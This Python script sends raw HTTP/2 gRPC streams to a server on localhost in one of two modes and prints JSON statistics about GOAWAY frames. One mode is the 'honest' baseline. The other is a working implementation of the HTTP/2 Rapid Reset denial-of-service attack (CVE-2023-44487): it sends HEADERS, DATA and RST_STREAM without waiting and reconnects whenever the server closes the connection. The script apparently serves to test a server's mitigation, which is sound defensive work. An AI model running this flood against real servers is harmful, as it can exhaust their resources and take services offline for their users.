"""Raw HTTP/2 streams of unary gRPC calls at a steady rate, reset or honest.

usage: stream_flood.py PORT PATH MODE SECONDS RATE

MODE reset: rapid reset (CVE-2023-44487): each stream is HEADERS, DATA and
RST_STREAM(CANCEL) in one write, never waiting for an answer; when the server
closes the connection, a new one takes over.
MODE honest: the same streams without the reset, each answer read, at most
100 open at once on one connection.

Prints one JSON object: streams sent, answers read, connections used, the
GOAWAY error codes seen, and the milliseconds from each connection's start to
its GOAWAY.
"""

import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

BATCH_S = 0.01
REQUEST = b"\0\0\0\0\3\x0a\x01x"


def headers(port, path):
    return [
        (":method", "POST"),
        (":path", path),
        (":scheme", "http"),
        (":authority", f"127.0.0.1:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    sock.setblocking(False)
    return sock, conn


def read_events(sock, conn):
    """Events from whatever the server sent so far; None once the connection is gone."""
    events = []
    while True:
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return events
        except OSError:
            return None
        if not data:
            return None
        try:
            events.extend(conn.receive_data(data))
        except h2.exceptions.ProtocolError:
            return None
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except OSError:
                return None


def main():
    port, path, mode, seconds, rate = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4]), int(sys.argv[5])
    port = int(port)
    per_batch = max(1, int(rate * BATCH_S))
    sent = answered = connections = 0
    goaways = {}
    ms_to_goaway = []
    open_streams = set()
    sock, conn = connect(port)
    connections = 1
    opened_at = time.monotonic()
    start = time.monotonic()
    next_batch = start
    while time.monotonic() - start < seconds:
        now = time.monotonic()
        if now < next_batch:
            time.sleep(min(next_batch - now, 0.002))
        else:
            next_batch += BATCH_S
            for _ in range(per_batch):
                if mode == "honest" and len(open_streams) >= 100:
                    break
                try:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers(port, path))
                    conn.send_data(sid, REQUEST, end_stream=True)
                    if mode == "reset":
                        conn.reset_stream(sid, 8)
                    else:
                        open_streams.add(sid)
                    sent += 1
                except h2.exceptions.ProtocolError:
                    break
            try:
                sock.sendall(conn.data_to_send())
            except BlockingIOError:
                sock.setblocking(True)
                sock.sendall(conn.data_to_send())
                sock.setblocking(False)
            except OSError:
                pass
        events = read_events(sock, conn)
        closed = events is None
        for event in events or []:
            if isinstance(event, h2.events.ConnectionTerminated):
                goaways[event.error_code] = goaways.get(event.error_code, 0) + 1
                ms_to_goaway.append(round((time.monotonic() - opened_at) * 1000, 1))
                closed = True
            elif isinstance(event, h2.events.StreamEnded) or isinstance(event, h2.events.StreamReset):
                if event.stream_id in open_streams:
                    open_streams.discard(event.stream_id)
                    answered += 1
        if closed:
            sock.close()
            open_streams.clear()
            sock, conn = connect(port)
            connections += 1
            opened_at = time.monotonic()
    sock.close()
    print(
        json.dumps(
            {
                "sent": sent,
                "answered": answered,
                "connections": connections,
                "goaways": {int(code): count for code, count in goaways.items()},
                "msToGoaway": ms_to_goaway,
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
